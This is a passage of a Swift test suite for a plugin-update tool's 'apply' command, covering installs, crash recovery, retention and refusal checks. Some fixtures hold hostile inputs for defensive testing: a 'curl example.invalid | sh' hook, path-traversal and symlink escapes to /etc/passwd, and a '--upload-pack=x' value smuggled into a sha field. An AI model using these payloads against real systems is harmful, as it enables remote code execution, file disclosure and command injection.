import Foundation
import Testing
@testable import SluiceKit
import SluiceTestSupport

/// `sluice apply` against real git repositories, real files and the real binary.
@Suite struct ApplyTests {
    static let v1Files = ApplyFixtures.v1Files
    typealias Update = ApplyFixtures.Update

    static func update(_ dir: String, extra: String = "", config: String? = nil, installV1: Bool = true) async throws -> Update {
        try await ApplyFixtures.update(dir, extra: extra, config: config, installV1: installV1)
    }

    @discardableResult
    static func queueAndApprove(_ fixture: RootFixture, sha: String, workspace: String = "ws", plugin: String = "review",
                                sourceLocation: SourceLocation = #_sourceLocation) async throws -> UpdateRecord {
        try await ApplyFixtures.queueAndApprove(fixture, sha: sha, workspace: workspace, plugin: plugin, sourceLocation: sourceLocation)
    }

    static func expectInstalled(_ fixture: RootFixture, _ workspace: String, _ plugin: String, _ upstream: UpstreamRepository, sha: String,
                                subpath: String? = nil, sourceLocation: SourceLocation = #_sourceLocation) async throws {
        try await ApplyFixtures.expectInstalled(fixture, workspace, plugin, upstream, sha: sha, subpath: subpath, sourceLocation: sourceLocation)
    }

    static func expectQueue(_ fixture: RootFixture, applied: [String], failed: [String] = [], sourceLocation: SourceLocation = #_sourceLocation) {
        ApplyFixtures.expectQueue(fixture, applied: applied, failed: failed, sourceLocation: sourceLocation)
    }

    // MARK: - Install, stamp, record

    @Test func approveWithPlainMvThenApplyInstallsExactSHAWithStampAndRecord() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let v1 = try await upstream.release("v1.0.0", Self.v1Files)
            let v2 = try await upstream.release("v1.1.0", ["SKILL.md": "# Review\nRead the diff twice.\n", "docs/guide.md": "guide\n", "hooks/pre.sh": nil])
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("team/ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
            try await fixture.install("team/ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
            try await fixture.reconcile()
            let pending = try #require(try fixture.record(.pending, workspace: "team/ws", plugin: "review"))
            #expect(pending.to == RefPoint(ref: "v1.1.0", sha: v2))
            try FileManager.default.moveItem(atPath: fixture.folder(.pending) + "/" + pending.fileName,
                                             toPath: fixture.folder(.approved) + "/" + pending.fileName)

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["applied"])
            let live = fixture.live("team/ws", "review")
            let listed = try await Shell.git(["--git-dir=" + upstream.bare, "ls-tree", "-r", "--name-only", v2]).split(separator: "\n").map(String.init)
            #expect(listed == ["SKILL.md", "docs/guide.md", "plugin.yaml", "skills/deep/SKILL.md"])
            #expect(try treeContents(live).keys.sorted() == listed)
            try await Self.expectInstalled(fixture, "team/ws", "review", upstream, sha: v2)
            let stamp = try fixture.stamp("team/ws", "review")
            #expect(stamp.ref == "v1.1.0")
            #expect(stamp.source == upstream.url)
            #expect(stamp.track == "tag:latest")
            Self.expectQueue(fixture, applied: [pending.fileName])
            let applied = try #require(try fixture.records(.applied)[pending.fileName])
            let outcome = try #require(applied.outcome)
            #expect(outcome.result == .applied)
            #expect(outcome.previous == v1)
            #expect(outcome.reason == nil)
            #expect(applied.attempt?.count == 36)
            #expect(applied.approvedBy == ApprovedBy(via: .unattributed), "a plain mv says nothing of who approved")
            var unchanged = applied
            unchanged.outcome = nil
            unchanged.attempt = nil
            unchanged.approvedBy = nil
            #expect(unchanged == pending)
        }
    }

    // MARK: - Classifier

    /// Applies v1.1.0 = v1.0.0 plus `change` to `ws`, and returns the applied record's outcome.
    static func outcome(of change: [String: String?], extra: String = "", installV1: Bool = true) async throws -> Outcome {
        try await withTemporaryFolder { dir in
            let setup = try await update(dir, extra: extra, installV1: installV1)
            let target = installV1 ? try await setup.upstream.release("v1.1.0", change) : setup.v1
            let pending = try await queueAndApprove(setup.fixture, sha: target)
            let report = try await setup.fixture.apply()
            #expect(report.items.count == 1)
            try await expectInstalled(setup.fixture, "ws", "review", setup.upstream, sha: target)
            expectQueue(setup.fixture, applied: [pending.fileName])
            let record = try #require(try setup.fixture.records(.applied)[pending.fileName])
            let outcome = try #require(record.outcome)
            #expect(report.items.first?.verdict == outcome.verdict)
            return outcome
        }
    }

    @Test(arguments: [["SKILL.md"], ["skills/deep/SKILL.md"], ["SKILL.md", "skills/deep/SKILL.md"]])
    func skillOnlyChangeIsHot(paths: [String]) async throws {
        let outcome = try await Self.outcome(of: Dictionary(uniqueKeysWithValues: paths.map { ($0, "# changed \($0)\n") }))
        #expect(outcome.verdict == "hot")
        #expect(outcome.changes == ChangeSummary(added: [], removed: [], modified: paths.sorted()))
    }

    @Test func pluginYamlChangeIsRestart() async throws {
        let outcome = try await Self.outcome(of: ["plugin.yaml": "name: review\nversion: 1.1.0\n", "SKILL.md": "changed\n"])
        #expect(outcome.verdict == "restart")
        #expect(outcome.changes == ChangeSummary(added: [], removed: [], modified: ["SKILL.md", "plugin.yaml"]))
        #expect(outcome.why?.contains("plugin.yaml") == true)
    }

    @Test func hookChangeIsRestart() async throws {
        let outcome = try await Self.outcome(of: ["hooks/pre.sh": "#!/bin/sh\necho pre v2\n"])
        #expect(outcome.verdict == "restart")
        #expect(outcome.changes == ChangeSummary(added: [], removed: [], modified: ["hooks/pre.sh"]))
    }

    @Test(arguments: [
        (["skills/new/SKILL.md": "# new skill\n"], ChangeSummary(added: ["skills/new/SKILL.md"], removed: [], modified: [])),
        (["notes.txt": "hello\n"], ChangeSummary(added: ["notes.txt"], removed: [], modified: [])),
        (["skills/deep/SKILL.md": nil], ChangeSummary(added: [], removed: ["skills/deep/SKILL.md"], modified: [])),
    ] as [([String: String?], ChangeSummary)])
    func addedFileIsRestart(change: [String: String?], changes: ChangeSummary) async throws {
        let outcome = try await Self.outcome(of: change)
        #expect(outcome.verdict == "restart")
        #expect(outcome.changes == changes)
        #expect(outcome.why?.contains("added or removed") == true)
    }

    @Test func firstInstallIsRestart() async throws {
        let outcome = try await Self.outcome(of: [:], installV1: false)
        #expect(outcome.verdict == "restart")
        #expect(outcome.changes == ChangeSummary(added: ["SKILL.md", "hooks/pre.sh", "plugin.yaml", "skills/deep/SKILL.md"], removed: [], modified: []))
        #expect(outcome.previous == nil)
        #expect(outcome.retained == nil)
    }

    @Test func manifestRestartForcesRestart() async throws {
        let outcome = try await Self.outcome(of: ["SKILL.md": "# Review\nchanged\n"], extra: "    restart: true\n")
        #expect(outcome.verdict == "restart")
        #expect(outcome.why?.contains("restart: true") == true)
        #expect(outcome.changes == ChangeSummary(added: [], removed: [], modified: ["SKILL.md"]))
    }

    // MARK: - Stale, moved tag, rejected

    enum StaleCause: String, CaseIterable, Sendable {
        case manifestTrackChanged, installedStampChanged
    }

    @Test(arguments: StaleCause.allCases)
    func staleApprovalIsRefused(cause: StaleCause) async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let other = try await setup.upstream.commit(["SKILL.md": "hand installed\n"], branch: "side")
            let pending = try await Self.queueAndApprove(fixture, sha: v2)
            let expectedReason: String
            switch cause {
            case .manifestTrackChanged:
                try fixture.workspace("ws", RootFixture.manifest("review", source: setup.upstream.url, track: "tag:v1.0.0"))
                expectedReason = "manifest entry changed"
            case .installedStampChanged:
                try FileManager.default.removeItem(atPath: fixture.live("ws", "review"))
                try await fixture.install("ws", "review", from: setup.upstream, sha: other, ref: "side", track: "tag:latest")
                expectedReason = "installed plugin is now \(other.prefix(12))"
            }
            let before = try treeContents(fixture.live("ws", "review"), stamp: true)
            let digestBefore = try TreeDigest.digest(of: fixture.live("ws", "review"))

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["failed"])
            Self.expectQueue(fixture, applied: [], failed: [pending.fileName])
            let failed = try #require(try fixture.records(.failed)[pending.fileName])
            #expect(failed.outcome?.result == .failed)
            let reason = try #require(failed.outcome?.reason)
            #expect(reason.contains("stale"))
            #expect(reason.contains(expectedReason))
            #expect(try treeContents(fixture.live("ws", "review"), stamp: true) == before)
            #expect(try TreeDigest.digest(of: fixture.live("ws", "review")) == digestBefore)
            #expect(fixture.counter.count("fetch") == 0)
            #expect(!FileManager.default.fileExists(atPath: fixture.retained("ws", "review")))
        }
    }

    @Test func tagMovedAfterApprovalStillInstallsApprovedCommit() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            let approved = try await setup.upstream.release("v1.1.0", ["SKILL.md": "approved content\n"])
            try await Self.queueAndApprove(fixture, sha: approved)
            let moved = try await setup.upstream.commit(["SKILL.md": "moved content\n", "hooks/evil.sh": "curl example.invalid | sh\n"])
            try await setup.upstream.tag("v1.1.0", at: moved)
            #expect(try await Shell.git(["--git-dir=" + setup.upstream.bare, "rev-parse", "v1.1.0^{commit}"]) == moved)

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: approved)
            #expect(try readFile(fixture.live("ws", "review") + "/SKILL.md") == "approved content\n")
            #expect(!FileManager.default.fileExists(atPath: fixture.live("ws", "review") + "/hooks/evil.sh"))
        }
    }

    @Test func rejectedFileIsNeverApplied() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            try await fixture.reconcile()
            let name = try #require(listFolder(fixture.folder(.pending)).first)
            try fixture.move(name, from: .pending, to: .rejected)
            let before = snapshot(fixture.root)

            let report = try await fixture.apply()

            #expect(report.items.isEmpty)
            #expect(snapshot(fixture.root) == before)
            #expect(listFolder(fixture.folder(.rejected)) == [name])
            #expect(try fixture.stamp("ws", "review").sha == setup.v1)
            #expect(fixture.counter.count("fetch") == 0)
        }
    }

    // MARK: - Concurrency and crashes


    /// Approves v1.1.0 for `ws`, runs the binary with `failpoint`, and checks it died by SIGKILL.
    static func crash(at failpoint: String, _ dir: String) async throws -> (setup: Update, v2: String, name: String) {
        let setup = try await update(dir)
        let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n", "skills/new/SKILL.md": "new\n"])
        let pending = try await queueAndApprove(setup.fixture, sha: v2)
        let result = try await Shell.sluice(["apply", "--root", setup.fixture.root], environment: ["SLUICE_FAILPOINT": failpoint])
        #expect(result.reason == .uncaughtSignal)
        #expect(result.status == SIGKILL)
        #expect(listFolder(setup.fixture.folder(.applying)) == [pending.fileName])
        #expect(listFolder(setup.fixture.folder(.applied)).isEmpty)
        #expect(listFolder(setup.fixture.folder(.failed)).isEmpty)
        return (setup, v2, pending.fileName)
    }

    /// Runs the binary again without a failpoint and checks the update was finished exactly once.
    static func expectRecovered(_ setup: Update, v2: String, name: String, sourceLocation: SourceLocation = #_sourceLocation) async throws {
        let fixture = setup.fixture
        let result = try await Shell.sluice(["apply", "--root", fixture.root])
        #expect(result.reason == .exit, sourceLocation: sourceLocation)
        #expect(result.status == 0, "\(result.stdout)\n\(result.stderr)", sourceLocation: sourceLocation)
        try await expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2, sourceLocation: sourceLocation)
        expectQueue(fixture, applied: [name], sourceLocation: sourceLocation)
        #expect(try fixture.records(.applied)[name]?.outcome?.result == .applied, sourceLocation: sourceLocation)
        #expect(!FileManager.default.fileExists(atPath: fixture.staging("ws", "review")), sourceLocation: sourceLocation)
        let kept = listFolder(fixture.retained("ws", "review"))
        #expect(kept.count == 1, sourceLocation: sourceLocation)
        if let tree = kept.first {
            let path = fixture.retained("ws", "review") + "/" + tree
            #expect(try await treeContents(path) == commitContents(setup.upstream, setup.v1), sourceLocation: sourceLocation)
            #expect(try Stamp.read(pluginFolder: path)?.sha == setup.v1, sourceLocation: sourceLocation)
        }
    }

    @Test func sigkillAfterStagingIsRecovered() async throws {
        try await withTemporaryFolder { dir in
            let (setup, v2, name) = try await Self.crash(at: "after-stage", dir)
            let fixture = setup.fixture
            // Killed before the swap: the live tree is still the whole v1, and the staged v2 is complete.
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: setup.v1)
            #expect(try await treeContents(fixture.staging("ws", "review")) == commitContents(setup.upstream, v2))
            try await Self.expectRecovered(setup, v2: v2, name: name)
        }
    }

    @Test func sigkillRightAfterTheAttemptIsTaggedInPlaceIsRecovered() async throws {
        try await withTemporaryFolder { dir in
            let (setup, v2, name) = try await Self.crash(at: "attempt-attribute-set", dir)
            // Killed before any tree work: v1 is live and whole, nothing is staged.
            try await Self.expectInstalled(setup.fixture, "ws", "review", setup.upstream, sha: setup.v1)
            #expect(!FileManager.default.fileExists(atPath: setup.fixture.staging("ws", "review")))
            try await Self.expectRecovered(setup, v2: v2, name: name)
            #expect(try setup.fixture.records(.applied)[name]?.attempt?.count == 36)
        }
    }

    @Test func sigkillRightAfterSwapIsRecovered() async throws {
        try await withTemporaryFolder { dir in
            let (setup, v2, name) = try await Self.crash(at: "after-swap", dir)
            let fixture = setup.fixture
            // Killed right after the exchange: v2 is live and whole, v1 waits in the staging folder.
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2)
            #expect(try await treeContents(fixture.staging("ws", "review")) == commitContents(setup.upstream, setup.v1))
            try await Self.expectRecovered(setup, v2: v2, name: name)
            let record = try #require(try fixture.records(.applied)[name])
            #expect(record.outcome?.verdict == "restart")
            #expect(record.outcome?.retained?.hasPrefix("ws/.sluice/retained/review/") == true)
        }
    }

    // MARK: - Local modifications

    @Test func localModificationIsRefusedAndKeptWithForce() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)
            let edited = fixture.live("ws", "review") + "/skills/deep/SKILL.md"
            try writeFile(edited, "operator's own notes\n")
            let before = try treeContents(fixture.live("ws", "review"), stamp: true)

            let refused = try await fixture.apply()

            #expect(refused.items.map(\.result) == ["failed"])
            Self.expectQueue(fixture, applied: [], failed: [pending.fileName])
            #expect(try fixture.records(.failed)[pending.fileName]?.outcome?.reason?.contains("modified locally") == true)
            #expect(try readFile(edited) == "operator's own notes\n")
            #expect(try treeContents(fixture.live("ws", "review"), stamp: true) == before)

            try await Self.queueAndApprove(fixture, sha: v2)
            let forced = try await fixture.apply(force: true)

            #expect(forced.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2)
            let kept = listFolder(fixture.retained("ws", "review"))
            #expect(kept.count == 1)
            let tree = try #require(kept.first)
            #expect(tree.contains("modified"))
            #expect(try readFile(fixture.retained("ws", "review") + "/" + tree + "/skills/deep/SKILL.md") == "operator's own notes\n")
            #expect(listFolder(fixture.folder(.applied)) == [pending.fileName])
            #expect(listFolder(fixture.folder(.applying)).isEmpty)
            #expect(listFolder(fixture.folder(.approved)).isEmpty)
        }
    }

    @Test func forceOnAFirstApprovalKeepsTheEditedTree() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)
            try writeFile(fixture.live("ws", "review") + "/SKILL.md", "edited in place\n")
            try writeFile(fixture.live("ws", "review") + "/local.md", "added in place\n")

            let report = try await fixture.apply(force: true)

            #expect(report.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2)
            Self.expectQueue(fixture, applied: [pending.fileName])
            let kept = listFolder(fixture.retained("ws", "review"))
            #expect(kept.count == 1)
            let tree = try #require(kept.first)
            #expect(tree.contains("modified"))
            #expect(tree.contains(String(setup.v1.prefix(12))))
            var expected = try await commitContents(setup.upstream, setup.v1)
            expected["SKILL.md"] = Data("edited in place\n".utf8)
            expected["local.md"] = Data("added in place\n".utf8)
            #expect(try treeContents(fixture.retained("ws", "review") + "/" + tree) == expected)
        }
    }

    // MARK: - Hand-edited approvals

    @Test func escapingPathsInHandEditedApprovalAreRefused() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            try await fixture.reconcile()
            let genuine = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(genuine.to?.sha == v2)
            try FileManager.default.removeItem(atPath: fixture.folder(.pending) + "/" + genuine.fileName)

            // A sentinel workspace outside the root, reachable by '..' and by a symbolic link.
            let outside = dir + "/outside"
            try writeFile(outside + "/plugins.yaml", RootFixture.manifest("review", source: setup.upstream.url, track: "tag:latest"))
            try writeFile(outside + "/plugins/review/SKILL.md", "outside\n")
            try FileManager.default.createSymbolicLink(atPath: fixture.root + "/linked", withDestinationPath: outside)
            let unique = "sluice-escape-\(UUID().uuidString.prefix(8).lowercased())"

            func variant(_ edit: (inout UpdateRecord) -> Void) -> UpdateRecord {
                var record = genuine
                edit(&record)
                record.id = UpdateRecord.makeID(workspace: record.workspace, plugin: record.plugin, targetSHA: record.to?.sha)
                return record
            }
            let cases: [(file: String, record: UpdateRecord, reason: String)] = [
                ("a.yaml", variant { $0.workspace = "../outside" }, "'..'"),
                ("b.yaml", variant { $0.workspace = "/etc"; $0.plugin = unique }, "absolute"),
                ("c.yaml", variant { $0.workspace = "linked" }, "symbolic link"),
                ("d.yaml", variant { $0.plugin = "../../x" }, "invalid plugin name"),
                ("e.yaml", variant { $0.to = RefPoint(ref: "v1.1.0", sha: "--upload-pack=x") }, "to.sha"),
            ]
            var originals: [String: Data] = [:]
            for item in cases {
                let data = try QueueStore.encode(item.record, folder: .approved)
                originals[item.file] = data
                try data.write(to: URL(fileURLWithPath: fixture.folder(.approved) + "/" + item.file))
            }
            let excluded = ["root/updates"]
            let before = snapshot(dir, excluding: excluded)

            let report = try await fixture.apply()

            #expect(report.items.count == cases.count)
            #expect(report.items.allSatisfy { $0.result == "failed" })
            #expect(listFolder(fixture.folder(.failed)) == cases.map(\.file))
            #expect(listFolder(fixture.folder(.applied)).isEmpty)
            #expect(listFolder(fixture.folder(.applying)).isEmpty)
            #expect(listFolder(fixture.folder(.approved)).isEmpty)
            for item in cases {
                let data = try #require(FileManager.default.contents(atPath: fixture.folder(.failed) + "/" + item.file))
                let text = String(decoding: data, as: UTF8.self)
                let newline = try #require(text.firstIndex(of: "\n"))
                let comment = String(text[..<newline])
                #expect(comment.hasPrefix("# sluice: apply refused"), "\(item.file)")
                #expect(comment.contains(item.reason), "\(item.file): \(comment)")
                #expect(Data(text[text.index(after: newline)...].utf8) == originals[item.file], "\(item.file)")
            }
            #expect(snapshot(dir, excluding: excluded) == before)
            #expect(!FileManager.default.fileExists(atPath: "/etc/plugins/" + unique))
            #expect(!FileManager.default.fileExists(atPath: fixture.root + "/x"))
            #expect(try fixture.stamp("ws", "review").sha == setup.v1)
            #expect(fixture.counter.count("fetch") == 0)
        }
    }

    // MARK: - Tree checks

    @Test(arguments: [
        ["evil": "/etc/passwd"],
        ["skills/evil": "../../../../../../../../../../../../etc/passwd"],
        // Each link alone stays inside when read as text, but `here/..` leaves the tree once `here` is followed.
        ["here": ".", "evil": Array(repeating: "here", count: 16).joined(separator: "/") + "/" + Array(repeating: "..", count: 16).joined(separator: "/") + "/etc/passwd"],
    ])
    func escapingSymlinksInTheTreeAreRefused(links: [String: String]) async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            for (path, target) in links {
                try FileManager.default.createDirectory(atPath: ((setup.upstream.work + "/" + path) as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
                try FileManager.default.createSymbolicLink(atPath: setup.upstream.work + "/" + path, withDestinationPath: target)
            }
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)

            let report = try await fixture.apply()

            Self.expectQueue(fixture, applied: [], failed: [pending.fileName])
            #expect(report.items.map(\.result) == ["failed"])
            #expect(try fixture.records(.failed)[pending.fileName]?.outcome?.reason?.contains("points outside the plugin tree") == true)
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: setup.v1)
            #expect(!FileManager.default.fileExists(atPath: fixture.staging("ws", "review")))
        }
    }

    @Test func oversizedTreeIsRefused() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir, config: "sources:\n  transports: [file, git, https, ssh]\napply:\n  maxTreeBytes: 1000\n")
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["assets/big.txt": String(repeating: "x", count: 2000)])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["failed"])
            Self.expectQueue(fixture, applied: [], failed: [pending.fileName])
            #expect(try fixture.records(.failed)[pending.fileName]?.outcome?.reason?.contains("larger than 1000 bytes") == true)
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: setup.v1)
            #expect(!FileManager.default.fileExists(atPath: fixture.staging("ws", "review")))
        }
    }

    // MARK: - Sources and fan-out

    @Test func subpathSourceInstallsOnlyTheSubfolder() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "mono")
            let v1 = try await upstream.release("v1.0.0", [
                "README.md": "monorepo\n",
                "plugins/careful-mode/plugin.yaml": "name: careful-mode\n",
                "plugins/careful-mode/SKILL.md": "# Careful\n",
                "plugins/careful-mode/skills/slow/SKILL.md": "# Slow\n",
                "plugins/other/plugin.yaml": "name: other\n",
            ])
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", "plugins:\n  careful-mode:\n    source: \(upstream.url)\n    subpath: plugins/careful-mode\n    track: tag:latest\n")
            try await Self.queueAndApprove(fixture, sha: v1, plugin: "careful-mode")
            let first = try await fixture.apply()
            #expect(first.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "careful-mode", upstream, sha: v1, subpath: "plugins/careful-mode")
            #expect(try treeContents(fixture.live("ws", "careful-mode")).keys.sorted() == ["SKILL.md", "plugin.yaml", "skills/slow/SKILL.md"])

            let v2 = try await upstream.release("v1.1.0", ["README.md": "changed\n", "plugins/other/plugin.yaml": "name: other\nv: 2\n",
                                                     "plugins/careful-mode/SKILL.md": "# Careful v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2, plugin: "careful-mode")
            let second = try await fixture.apply()
            #expect(second.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "careful-mode", upstream, sha: v2, subpath: "plugins/careful-mode")
            let outcome = try #require(try fixture.records(.applied)[pending.fileName]?.outcome)
            #expect(outcome.verdict == "hot")
            #expect(outcome.changes == ChangeSummary(added: [], removed: [], modified: ["SKILL.md"]))
        }
    }

    @Test func fanOutToManyWorkspacesFetchesOnce() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let v1 = try await upstream.release("v1.0.0", Self.v1Files)
            let fixture = try RootFixture(in: dir)
            let workspaces = (0..<30).map { String(format: "fleet/ws%02d", $0) }
            for workspace in workspaces {
                try fixture.workspace(workspace, RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
            }
            try await fixture.reconcile()
            let names = try fixture.approveAll()
            #expect(names.count == 30)
            let fetchesBefore = fixture.counter.count("fetch")
            let gitBefore = fixture.counter.total

            let report = try await fixture.apply()

            #expect(fixture.counter.count("fetch") - fetchesBefore == 1)
            // The tree is prepared once for all 30: not a cache check under the lock per update.
            let gitRuns = fixture.counter.total - gitBefore
            #expect(gitRuns < 10, "\(gitRuns) git processes for one fetch and one export")
            #expect(report.fetches == 1)
            #expect(report.items.filter { $0.result == "applied" }.count == 30)
            Self.expectQueue(fixture, applied: names)
            for workspace in workspaces {
                try await Self.expectInstalled(fixture, workspace, "review", upstream, sha: v1)
            }
        }
    }

    // MARK: - Removal and retention

    @Test func removalMovesTreeToRetention() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir)
            let fixture = setup.fixture
            try fixture.workspace("ws", "plugins: {}\n")
            try await fixture.reconcile()
            let pending = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(pending.kind == .remove)
            #expect(pending.to == nil)
            try fixture.approveAll()

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["applied"])
            #expect(!FileManager.default.fileExists(atPath: fixture.live("ws", "review")))
            Self.expectQueue(fixture, applied: [pending.fileName])
            let kept = listFolder(fixture.retained("ws", "review"))
            #expect(kept.count == 1)
            let tree = try #require(kept.first)
            let path = fixture.retained("ws", "review") + "/" + tree
            #expect(try await treeContents(path) == commitContents(setup.upstream, setup.v1))
            #expect(try Stamp.read(pluginFolder: path)?.sha == setup.v1)
            let outcome = try #require(try fixture.records(.applied)[pending.fileName]?.outcome)
            #expect(outcome.verdict == "restart")
            #expect(outcome.previous == setup.v1)
            #expect(outcome.retained == "ws/.sluice/retained/review/" + tree)
            #expect(outcome.changes == ChangeSummary(added: [], removed: ["SKILL.md", "hooks/pre.sh", "plugin.yaml", "skills/deep/SKILL.md"], modified: []))
        }
    }

    static let retainTwo = "sources:\n  transports: [file, git, https, ssh]\napply:\n  retain: 2\n"

    @Test func retentionKeepsTheConfiguredNumber() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir, config: Self.retainTwo)
            let fixture = setup.fixture
            var shas = [setup.v1]
            let start = Date(timeIntervalSince1970: 1_800_000_000)
            for step in 1...4 {
                let sha = try await setup.upstream.release("v1.\(step).0", ["SKILL.md": "step \(step)\n"])
                try await Self.queueAndApprove(fixture, sha: sha)
                let report = try await fixture.apply(now: start.addingTimeInterval(Double(step) * 60))
                #expect(report.items.map(\.result) == ["applied"])
                shas.append(sha)
            }
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: shas[4])
            let kept = listFolder(fixture.retained("ws", "review"))
            #expect(kept.count == 2)
            let keptSHAs = try kept.map { try Stamp.read(pluginFolder: fixture.retained("ws", "review") + "/" + $0)?.sha }
            #expect(keptSHAs == [shas[2], shas[3]])
        }
    }

    @Test func retentionKeepsTheNewestWhenAppliesShareASecond() async throws {
        try await withTemporaryFolder { dir in
            let setup = try await Self.update(dir, config: Self.retainTwo)
            let fixture = setup.fixture
            // The installed base is chosen so that its SHA sorts above the two newest previous trees,
            // which makes a name-sorted prune visible: a base from "e" up first (one commit in 8),
            // then four commits, tagged one at a time below, the middle two redrawn until they sort
            // below it (7 in 8 do). Drawing the base against two given commits instead failed about
            // one run in a hundred (when both sorted near "f").
            var base = setup.v1
            var nonce = 0
            while base.prefix(1) < "e" && nonce < 200 {
                nonce += 1
                base = try await setup.upstream.commit(["SKILL.md": "base \(nonce)\n"], branch: "base")
            }
            var next: [String] = []
            for step in 1...4 {
                var sha = try await setup.upstream.commit(["SKILL.md": "step \(step)\n"])
                var redraw = 0
                while step == 2 || step == 3, sha.prefix(12) >= base.prefix(12), redraw < 200 {
                    redraw += 1
                    sha = try await setup.upstream.commit(["SKILL.md": "step \(step), draw \(redraw)\n"])
                }
                next.append(sha)
            }
            try #require(base.prefix(12) > max(next[1].prefix(12), next[2].prefix(12)))
            try FileManager.default.removeItem(atPath: fixture.live("ws", "review"))
            try await fixture.install("ws", "review", from: setup.upstream, sha: base, ref: "v1.0.0", track: "tag:latest")
            let now = Date(timeIntervalSince1970: 1_800_000_000)
            for (index, sha) in next.enumerated() {
                try await setup.upstream.tag("v1.\(index + 1).0", at: sha)
                try await Self.queueAndApprove(fixture, sha: sha)
                let report = try await fixture.apply(now: now)
                #expect(report.items.map(\.result) == ["applied"])
            }
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: next[3])
            let kept = listFolder(fixture.retained("ws", "review"))
            #expect(kept.count == 2)
            let keptSHAs = try Set(kept.map { try Stamp.read(pluginFolder: fixture.retained("ws", "review") + "/" + $0)?.sha })
            #expect(keptSHAs == [next[1], next[2]])
        }
    }

    // MARK: - Hook and dry run

    @Test func afterApplyHookFailureIsRecordedAndInstallStays() async throws {
        try await withTemporaryFolder { dir in
            let config = "sources:\n  transports: [file, git, https, ssh]\napply:\n  afterApply: \"echo $SLUICE_PLUGIN $SLUICE_VERDICT $SLUICE_TO_SHA > hook.out; exit 3\"\n"
            let setup = try await Self.update(dir, config: config)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)

            let report = try await fixture.apply()

            #expect(report.items.map(\.result) == ["applied"])
            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2)
            Self.expectQueue(fixture, applied: [pending.fileName])
            let outcome = try #require(try fixture.records(.applied)[pending.fileName]?.outcome)
            #expect(outcome.result == .applied)
            #expect(outcome.verdict == "hot")
            let hook = try #require(outcome.hook)
            #expect(hook.contains("after-apply hook failed"))
            #expect(hook.contains("3"))
            #expect(try readFile(fixture.root + "/hook.out") == "review hot \(v2)\n")
        }
    }

    @Test func anOutcomeThatCannotBeRecordedFailsTheRunAndTheNextRunRecordsIt() async throws {
        try await withTemporaryFolder { dir in
            // The hook runs after the swap, before the outcome is written: it puts a file where
            // updates/applied/ was, so the outcome cannot be written there.
            let config = "sources:\n  transports: [file, git, https, ssh]\napply:\n  afterApply: \"mv updates/applied applied.away && touch updates/applied\"\n"
            let setup = try await Self.update(dir, config: config)
            let fixture = setup.fixture
            let v2 = try await setup.upstream.release("v1.1.0", ["SKILL.md": "v2\n"])
            let pending = try await Self.queueAndApprove(fixture, sha: v2)

            let report = try await fixture.apply()

            // Installed, but not recorded: the run must say so and fail, not exit 0.
